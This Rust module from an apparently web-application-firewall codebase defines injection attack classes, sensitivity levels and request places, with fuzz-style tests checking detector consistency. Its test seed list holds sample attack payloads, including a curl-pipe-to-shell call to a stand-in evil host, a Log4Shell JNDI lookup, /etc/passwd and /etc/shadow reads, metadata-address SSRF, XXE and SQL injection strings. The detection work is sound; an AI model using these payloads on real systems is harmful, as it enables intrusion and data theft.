//! Injection attacks in request values: the OWASP Top 10 classes, recognised inline.
//!
//! # How a request is inspected
//!
//! 1. [`values`] takes the request apart into **values**, each on its own: path segments, query parameter names and
//!    values, cookie values, chosen headers, form fields, multipart text fields, JSON keys and leaves, XML text and
//!    attributes. Each is decoded once the way the application will read it (percent-decoding of a query value, JSON
//!    string escapes, ...). Never the raw concatenation: an attack split across two parameters is two harmless
//!    values to the application too.
//! 2. [`normalize`] undoes what attackers add to slip past filters, into scratch space reused for every value (no
//!    allocation per value): repeated percent-decoding (bounded), `%uXXXX`, HTML entities, backslash escapes, NULs,
//!    fullwidth forms and overlong UTF-8, and ASCII case. The result is a [`Subject`], with the kinds of bytes it
//!    holds ([`ByteSet`], found in the pass that decides what needs decoding): a detector that needs a byte the value
//!    lacks returns at once, without reading it.
//! 3. Each enabled [`AttackClass`] looks at the subject at its [`Sensitivity`]: a tokenizer for SQL and HTML, and
//!    for the other classes small lexers over static tables. Nothing is compiled in the VM.
//!
//! What a request cannot have inspected (a value past the per-value cap, more values than the per-request cap) is a
//! finding the policy decides on, like a body past the inspection cap.

pub mod command;
pub mod crlf;
pub mod file_inclusion;
pub mod java;
pub mod ldap;
pub mod log4shell;
pub mod names;
pub mod normalize;
pub mod path_traversal;
pub mod php;
pub mod sqli;
pub mod ssrf;
pub mod template;
pub mod values;
pub mod xss;
pub mod xxe;

use serde::{Deserialize, Serialize};

pub use normalize::ByteSet;

/// One class of injection attack, as policies name it (`classifier: sqli`).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AttackClass {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting: HTML or script that a page would run.
    Xss,
    /// Operating-system commands chained or substituted into a value, and PHP code injected into one (`<?php`,
    /// `eval(base64_decode(…))`, `$_GET['a']($_GET['b'])`, serialized PHP objects, `php.ini` directives).
    CommandInjection,
    /// `../` climbing out of a directory, and well-known system files as targets.
    PathTraversal,
    /// Remote URLs and stream wrappers (`php://`, `file://`, `data:`) where a file name is expected.
    FileInclusion,
    /// JNDI lookups that Log4j 2 expands (`${jndi:ldap://…}`), including nested and obfuscated forms, and Java code
    /// injection: dangerous class names and method chains, expression-language payloads reaching Java, serialized
    /// Java objects.
    Log4shell,
    /// URL-valued parameters aimed at loopback, link-local, cloud metadata or private addresses.
    Ssrf,
    /// XML external entities: a DOCTYPE declaring `SYSTEM` or `PUBLIC` entities.
    Xxe,
    /// MongoDB-style operators (`$where`, `$ne`, `$gt`…) as keys or in parameter names, and JavaScript in `$where`.
    NosqlInjection,
    /// Server-side template expressions (`{{…}}`, `${…}`, `<%…%>`, `#{…}`) that evaluate code.
    TemplateInjection,
    /// CR/LF that would split a header or a response.
    CrlfInjection,
    /// LDAP filter metacharacters that change a search filter (`*)(uid=*))(|(uid=*`).
    LdapInjection,
    /// Keys that reach an object's prototype (`__proto__`, `constructor.prototype`).
    PrototypePollution,
}

impl AttackClass {
    /// Every class, in the order of [`AttackClass::bit`].
    pub const ALL: [AttackClass; 13] = [
        AttackClass::Sqli,
        AttackClass::Xss,
        AttackClass::CommandInjection,
        AttackClass::PathTraversal,
        AttackClass::FileInclusion,
        AttackClass::Log4shell,
        AttackClass::Ssrf,
        AttackClass::Xxe,
        AttackClass::NosqlInjection,
        AttackClass::TemplateInjection,
        AttackClass::CrlfInjection,
        AttackClass::LdapInjection,
        AttackClass::PrototypePollution,
    ];

    /// The name policies, verdicts and stats use.
    pub fn name(self) -> &'static str {
        match self {
            AttackClass::Sqli => "sqli",
            AttackClass::Xss => "xss",
            AttackClass::CommandInjection => "command_injection",
            AttackClass::PathTraversal => "path_traversal",
            AttackClass::FileInclusion => "file_inclusion",
            AttackClass::Log4shell => "log4shell",
            AttackClass::Ssrf => "ssrf",
            AttackClass::Xxe => "xxe",
            AttackClass::NosqlInjection => "nosql_injection",
            AttackClass::TemplateInjection => "template_injection",
            AttackClass::CrlfInjection => "crlf_injection",
            AttackClass::LdapInjection => "ldap_injection",
            AttackClass::PrototypePollution => "prototype_pollution",
        }
    }

    /// Looks a class up by its policy name.
    pub fn from_name(name: &str) -> Option<AttackClass> {
        AttackClass::ALL.into_iter().find(|c| c.name() == name)
    }

    /// The class' bit in a [`ClassSet`].
    pub fn bit(self) -> u16 {
        1 << (self as u16)
    }

    /// Whether `subject` carries this class of attack at `sensitivity`.
    pub fn detect(self, subject: &Subject<'_>, sensitivity: Sensitivity) -> bool {
        match self {
            AttackClass::Sqli => sqli::detect(subject, sensitivity),
            AttackClass::Xss => xss::detect(subject, sensitivity),
            AttackClass::CommandInjection => command::detect(subject, sensitivity) || php::detect(subject, sensitivity),
            AttackClass::PathTraversal => path_traversal::detect(subject, sensitivity),
            AttackClass::FileInclusion => file_inclusion::detect(subject, sensitivity),
            AttackClass::Log4shell => log4shell::detect(subject, sensitivity) || java::detect(subject, sensitivity),
            AttackClass::Ssrf => ssrf::detect(subject, sensitivity),
            AttackClass::Xxe => xxe::detect(subject, sensitivity),
            AttackClass::NosqlInjection => names::detect_nosql(subject, sensitivity),
            AttackClass::TemplateInjection => template::detect(subject, sensitivity),
            AttackClass::CrlfInjection => crlf::detect(subject, sensitivity),
            AttackClass::LdapInjection => ldap::detect(subject, sensitivity),
            AttackClass::PrototypePollution => names::detect_prototype_pollution(subject, sensitivity),
        }
    }
}

/// The lowest sensitivity at which what a detector found is reported (ordered from nothing to unmistakable), for
/// detectors that grade what they find before comparing it with the sensitivity asked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Level {
    /// Nothing found.
    None,
    /// A weak signal, reported at High only.
    High,
    /// Reported at Medium and High.
    Medium,
    /// Unmistakable: reported at every level.
    Low,
}

impl Level {
    /// Whether a finding of this level is reported at `sensitivity`.
    pub(crate) fn fires(self, sensitivity: Sensitivity) -> bool {
        match sensitivity {
            Sensitivity::Low => self >= Level::Low,
            Sensitivity::Medium => self >= Level::Medium,
            Sensitivity::High => self >= Level::High,
        }
    }
}

/// A set of classes, one bit each.
pub type ClassSet = u16;

/// How eagerly a detection reports (what the OWASP Core Rule Set calls paranoia levels): higher finds more evasive
/// attacks and flags more benign look-alikes.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Sensitivity {
    /// Only unmistakable attacks: for blocking on endpoints that take free text.
    Low,
    /// The recommended level for blocking.
    #[default]
    Medium,
    /// Also weak signals: for monitoring, or for endpoints whose parameters never hold prose or markup.
    High,
}

impl Sensitivity {
    /// The name policies use.
    pub fn name(self) -> &'static str {
        match self {
            Sensitivity::Low => "low",
            Sensitivity::Medium => "medium",
            Sensitivity::High => "high",
        }
    }

    /// Looks a level up by its policy name.
    pub fn from_name(name: &str) -> Option<Sensitivity> {
        [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].into_iter().find(|s| s.name() == name)
    }
}

/// Where in the request a value was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Place {
    /// A segment of the URL path.
    Path,
    /// A query parameter (`?name=value`).
    Query,
    /// A cookie (`Cookie: name=value`).
    Cookie,
    /// A request header.
    Header,
    /// A field of a form body (`application/x-www-form-urlencoded`) or a text part of a multipart body.
    Form,
    /// A key or a leaf of a JSON body.
    Json,
    /// Text or an attribute of an XML body, or the XML document's prolog.
    Xml,
    /// A body of another type, inspected as one text.
    Body,
}

impl Place {
    /// Every place, in bit order.
    pub const ALL: [Place; 8] =
        [Place::Path, Place::Query, Place::Cookie, Place::Header, Place::Form, Place::Json, Place::Xml, Place::Body];

    /// The place's bit in a set of places.
    pub fn bit(self) -> u8 {
        1 << (self as u8)
    }

    /// Where the verdict says it was (`sqli@body.comment`): every kind of body is `body`.
    pub fn evidence_name(self) -> &'static str {
        match self {
            Place::Path => "path",
            Place::Query => "query",
            Place::Cookie => "cookie",
            Place::Header => "header",
            Place::Form | Place::Json | Place::Xml | Place::Body => "body",
        }
    }

    /// The internal name (`json`, `form`, ...), for tests and tools.
    pub fn name(self) -> &'static str {
        match self {
            Place::Path => "path",
            Place::Query => "query",
            Place::Cookie => "cookie",
            Place::Header => "header",
            Place::Form => "form",
            Place::Json => "json",
            Place::Xml => "xml",
            Place::Body => "body",
        }
    }
}

/// One value ready for detection.
#[derive(Clone, Copy, Debug)]
pub struct Subject<'a> {
    /// The value as the application reads it: decoded once for its place (a query value percent-decoded, a JSON
    /// string unescaped), otherwise untouched.
    pub raw: &'a [u8],
    /// `raw` with evasions undone (see [`normalize`]): percent-decoding repeated, `%uXXXX`, HTML entities,
    /// backslash escapes, NULs removed, fullwidth forms and overlong UTF-8 folded to ASCII. Case is kept.
    pub decoded: &'a [u8],
    /// `decoded` in ASCII lower case, the same length.
    pub lower: &'a [u8],
    /// The kinds of bytes `lower` holds (a detector that needs a byte the value lacks returns at once);
    /// [`ByteSet::ALL`] when not known.
    pub bytes: ByteSet,
    /// Whether the value is a name (a parameter, field, cookie or JSON key name) rather than a value.
    pub is_name: bool,
    /// Where it was found.
    pub place: Place,
}

impl<'a> Subject<'a> {
    /// A subject for tests and tools: `text` as both raw and decoded (the caller normalised it, or it needs none).
    pub fn plain(text: &'a [u8], lower: &'a [u8], place: Place) -> Subject<'a> {
        Subject { raw: text, decoded: text, lower, bytes: ByteSet::of(lower), is_name: false, place }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::normalize::Normalizer;
    use crate::token_analysis::test_rng::Rng;

    /// Attack shapes of every class and benign look-alikes, to mutate (written for this test).
    const SEEDS: &[&str] = &[
        "1' OR '1'='1' -- ",
        "0 UNION SELECT name, pass FROM users",
        "<img src=x onerror=alert(1)>",
        "\"><script>alert(document.domain)</script>",
        "x; cat /etc/passwd",
        "$(curl http://evil.example/s | sh)",
        "../../../../etc/shadow",
        "php://filter/convert.base64-encode/resource=index",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "http://169.254.169.254/latest/meta-data/",
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
        "{\"$where\": \"sleep(100)\"}",
        "{{ config.__class__.__init__ }}",
        "x\r\nSet-Cookie: a=b",
        "*)(uid=*))(|(uid=*",
        "__proto__[isAdmin]=true",
        "O'Brien's select of the union menu",
        "Tom & Jerry; cats | dogs <3",
        "https://www.example.com/docs?page=2",
    ];

    /// Bytes that matter to some detector, inserted by the mutations.
    const ALPHABET: &[u8] = b"'\"<>;|&$(){}[]*/\\.%:=\r\n -_aZ09";

    /// Each level finds everything the level below finds: the inspector runs a class once at the highest level a
    /// policy asks for and relies on it.
    #[test]
    fn every_detector_is_monotone_in_sensitivity() {
        let mut rng = Rng(0x5e_7517);
        let mut normalizer = Normalizer::new(4096);
        let places = [Place::Query, Place::Json, Place::Header, Place::Path, Place::Form, Place::Xml];
        for round in 0..6000 {
            let mut value = SEEDS[round % SEEDS.len()].as_bytes().to_vec();
            for _ in 0..(round % 4) {
                let at = (rng.next() as usize) % (value.len() + 1);
                match rng.next() % 3 {
                    0 if at < value.len() => {
                        value.remove(at);
                    }
                    1 => value.insert(at, ALPHABET[(rng.next() as usize) % ALPHABET.len()]),
                    _ => value.extend_from_slice(SEEDS[(rng.next() as usize) % SEEDS.len()].as_bytes()),
                }
            }
            let place = places[round % places.len()];
            let normalized = normalizer.normalize(&value, place == Place::Query);
            let subject = Subject {
                raw: &value,
                decoded: normalized.decoded,
                lower: normalized.lower,
                bytes: normalized.bytes,
                is_name: round % 7 == 0,
                place,
            };
            for class in AttackClass::ALL {
                let [low, medium, high] =
                    [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High].map(|s| class.detect(&subject, s));
                assert!(
                    (!low || medium) && (!medium || high),
                    "{} is not monotone on {:?} in {place:?}: low {low}, medium {medium}, high {high}",
                    class.name(),
                    String::from_utf8_lossy(&value)
                );
            }
        }
    }

    /// The byte set only lets a detector return early: every class answers the same with it as with
    /// [`ByteSet::ALL`] (no early return), on attack shapes, benign look-alikes and their mutations.
    #[test]
    fn the_byte_set_never_changes_an_answer() {
        let mut rng = Rng(0x0b17_e5e7);
        let mut normalizer = Normalizer::new(4096);
        let places = [Place::Query, Place::Json, Place::Header, Place::Path, Place::Form, Place::Cookie, Place::Body];
        for round in 0..6000 {
            let mut value = SEEDS[round % SEEDS.len()].as_bytes().to_vec();
            for _ in 0..(round % 4) {
                let at = (rng.next() as usize) % (value.len() + 1);
                match rng.next() % 3 {
                    0 if at < value.len() => {
                        value.remove(at);
                    }
                    1 => value.insert(at, ALPHABET[(rng.next() as usize) % ALPHABET.len()]),
                    _ => value.extend_from_slice(SEEDS[(rng.next() as usize) % SEEDS.len()].as_bytes()),
                }
            }
            let place = places[round % places.len()];
            let normalized = normalizer.normalize(&value, place == Place::Query);
            let known = Subject {
                raw: &value,
                decoded: normalized.decoded,
                lower: normalized.lower,
                bytes: normalized.bytes,
                is_name: round % 5 == 0,
                place,
            };
            let unknown = Subject { bytes: ByteSet::ALL, ..known };
            for class in AttackClass::ALL {
                for level in [Sensitivity::Low, Sensitivity::Medium, Sensitivity::High] {
                    assert_eq!(
                        class.detect(&known, level),
                        class.detect(&unknown, level),
                        "{} at {level:?} on {:?} in {place:?}",
                        class.name(),
                        String::from_utf8_lossy(&value)
                    );
                }
            }
        }
    }
}
